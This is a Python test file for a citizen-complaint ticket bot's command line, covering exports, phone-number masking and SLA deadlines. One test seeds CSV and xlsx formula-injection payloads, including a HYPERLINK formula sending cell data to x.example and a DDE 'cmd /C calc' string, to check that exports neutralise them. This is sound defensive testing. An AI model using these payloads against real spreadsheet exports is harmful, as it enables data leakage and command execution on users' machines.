"""python -m bot digest / tickets list|show|export on a ticket database."""

from __future__ import annotations

import csv
import json

from bot.cli import main
from bot.core.clock import FixedClock
from tests.test_tickets_helpers import at, make_service


async def _db(tmp_path):
    db = tmp_path / "t.db"
    service = await make_service(db, FixedClock(at(2026, 11, 20, 10, 0)))
    t = await service.create(
        citizen_id="c1", description="路灯坏了，电话13812345678", category="城乡建设", phone="13812345678"
    )
    await service.claim(t.number, "h-cg")
    await service.store.close()
    return db, t.number


def _parse(argv):
    return main, argv


async def test_digest_prints_masked_text(tmp_path, capsys):
    db, number = await _db(tmp_path)
    run, args = _parse(["digest", "--db", str(db), "--date", "2026-11-23", "--department", "城管"])
    code = await _in_thread(run, args)
    out = capsys.readouterr().out
    assert code == 0
    assert "诉求办理日报｜城市管理局" in out and number in out
    assert "138****5678" in out and "13812345678" not in out and "<b>" not in out


async def test_tickets_list_show_export(tmp_path, capsys):
    db, number = await _db(tmp_path)
    run, args = _parse(["tickets", "list", "--db", str(db)])
    assert await _in_thread(run, args) == 0
    listing = capsys.readouterr().out
    assert number in listing and "城管小王" in listing and "13812345678" not in listing
    run, args = _parse(["tickets", "show", number, "--db", str(db)])
    assert await _in_thread(run, args) == 0
    assert "办理记录" in capsys.readouterr().out
    out_csv = tmp_path / "t.csv"
    run, args = _parse(["tickets", "export", "--format", "csv", "--output", str(out_csv), "--db", str(db)])
    assert await _in_thread(run, args) == 0
    assert out_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Chinese right
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig")))
    assert [r["number"] for r in rows] == [number] and rows[0]["state"] == "办理中"
    out_jsonl = tmp_path / "t.jsonl"
    run, args = _parse(
        ["tickets", "export", "--format", "jsonl", "--mask", "-o", str(out_jsonl), "--db", str(db)]
    )
    assert await _in_thread(run, args) == 0
    row = json.loads(out_jsonl.read_text(encoding="utf-8").splitlines()[0])
    assert row["phone"] == "138****5678"


async def test_exports_open_in_a_spreadsheet_and_formulas_are_neutralised(tmp_path, capsys):
    from openpyxl import load_workbook

    db = tmp_path / "t.db"
    service = await make_service(db, FixedClock(at(2026, 11, 20, 10, 0)))
    evil = [
        '=HYPERLINK("http://x.example/?"&A1,"点我")',
        "+1+2",
        "-3+4",
        "@SUM(A1:A2)",
        "=1+1",
    ]
    numbers = []
    for text in evil:
        t = await service.create(
            citizen_id="c1", description=text, category="其他", place="=cmd|' /C calc'!A0"
        )
        numbers.append(t.number)
    plain = await service.create(citizen_id="c2", description="路灯不亮，人民路1号", category="其他")
    await service.store.close()

    out_xlsx = tmp_path / "t.xlsx"
    assert (
        await _in_thread(
            main, ["tickets", "export", "--format", "xlsx", "-o", str(out_xlsx), "--db", str(db)]
        )
        == 0
    )
    sheet = load_workbook(out_xlsx).active
    header, *rows = [[c.value for c in r] for r in sheet.iter_rows()]
    by_number = {r[header.index("number")]: r for r in rows}
    assert set(by_number) == {*numbers, plain.number}
    for number, text in zip(numbers, evil, strict=True):
        cells = by_number[number]
        assert cells[header.index("description")] == "'" + text  # shown as typed, never run
        assert cells[header.index("place")] == "'=cmd|' /C calc'!A0"
    assert by_number[plain.number][header.index("description")] == "路灯不亮，人民路1号"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula cell anywhere

    out_csv = tmp_path / "t.csv"
    assert (
        await _in_thread(main, ["tickets", "export", "--format", "csv", "-o", str(out_csv), "--db", str(db)])
        == 0
    )
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig")))
    assert {r["description"] for r in rows if r["number"] in numbers} == {"'" + t for t in evil}
    assert all(not v.startswith(("=", "+", "-", "@", "\t")) for r in rows for v in r.values())

    # xlsx needs a file: stdout gets a clear refusal, not binary noise
    assert await _in_thread(main, ["tickets", "export", "--format", "xlsx", "--db", str(db)]) == 2
    assert "--output" in capsys.readouterr().err


async def test_missing_database_is_a_clear_error(tmp_path, capsys):
    run, args = _parse(["tickets", "list", "--db", str(tmp_path / "none.db")])
    assert await _in_thread(run, args) == 2
    assert "找不到诉求数据库" in capsys.readouterr().err


async def _in_thread(run, argv):
    # the commands start their own event loop, as they do under python -m bot
    import asyncio

    return await asyncio.to_thread(run, argv)


def test_sla_deadlines_prints_iso_times_and_marks_provisional(capsys):
    from bot.cli import main

    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "contact\t2026-12-20T12:00:00+08:00",
        "feedback\t2026-12-22T00:00:00+08:00",
        "resolve\t2027-01-05T00:00:00+08:00\t暂定",
        "dispatch\t2026-12-21T10:00:00+08:00",  # 签收 within 24 hours (the everyday tier)
    ]
    # a type's own windows: a 咨询 is resolved within three working days
    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "咨询"]) == 0
    assert capsys.readouterr().out.splitlines()[2] == "resolve\t2026-12-24T00:00:00+08:00"
    # urgent: the emergency tier (signed for within an hour), and a 建议's 15 days never beat urgent's 3
    assert (
        main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "建议", "--priority", "urgent"])
        == 0
    )
    lines = capsys.readouterr().out.splitlines()
    assert (
        lines[2] == "resolve\t2026-12-24T00:00:00+08:00" and lines[3] == "dispatch\t2026-12-20T11:00:00+08:00"
    )
    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--tier", "utilities"]) == 0
    assert capsys.readouterr().out.splitlines()[3] == "dispatch\t2026-12-20T12:00:00+08:00"
    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "抱怨"]) == 2
    assert "可选：咨询、求助、投诉、建议、举报、表扬" in capsys.readouterr().err
    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--category", "公安政法"]) == 0
    assert capsys.readouterr().out.splitlines()[2] == "resolve\t2026-12-26T00:00:00+08:00"
    assert main(["sla", "deadlines", "--start", "2026-12-20T10:00+08:00", "--priority", "urgent"]) == 0
    assert capsys.readouterr().out.splitlines()[1] == "feedback\t2026-12-20T14:00:00+08:00"


def test_sla_deadlines_use_the_configured_knowledge_directory(tmp_path, capsys):
    import shutil

    from bot.cli import main
    from tests.conftest import FIXTURE_KB

    kb = tmp_path / "kb"
    shutil.copytree(FIXTURE_KB, kb)
    (kb / "calendar.yaml").write_text("working_calendar:\n  2027:\n    holidays: [2027-01-01, 2027-01-04]\n")
    assert main(["--knowledge", str(kb), "sla", "deadlines", "--start", "2026-12-20 10:00"]) == 0
    assert capsys.readouterr().out.splitlines()[2] == "resolve\t2027-01-06T00:00:00+08:00"


def test_sla_deadlines_bad_input_is_one_chinese_line_and_exit_2(capsys):
    from bot.cli import main

    assert main(["sla", "deadlines", "--start", "下周一"]) == 2
    err = capsys.readouterr().err
    assert "起算时间「下周一」无法识别" in err and len(err.strip().splitlines()) == 1
    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--policy", "vip"]) == 2
    assert "没有名为「vip」的时限策略，可选：2110、urgent、safety。" in capsys.readouterr().err


def test_check_refuses_a_bad_calendar_file(tmp_path, capsys):
    import shutil

    from bot.cli import main
    from tests.conftest import FIXTURE_KB

    kb = tmp_path / "kb"
    shutil.copytree(FIXTURE_KB, kb)
    (kb / "calendar.yaml").write_text(
        "statutory_rules:\n  - from: 2025-01-01\n    basis: 国务院令第795号\n"
        "    holidays: [{name: 春节, anchor: lunar 12-30, days: 4}]\n"
    )
    assert main(["--knowledge", str(kb), "check"]) == 1
    err = capsys.readouterr().err
    assert "calendar.yaml" in err and "春节" in err and "除夕" in err
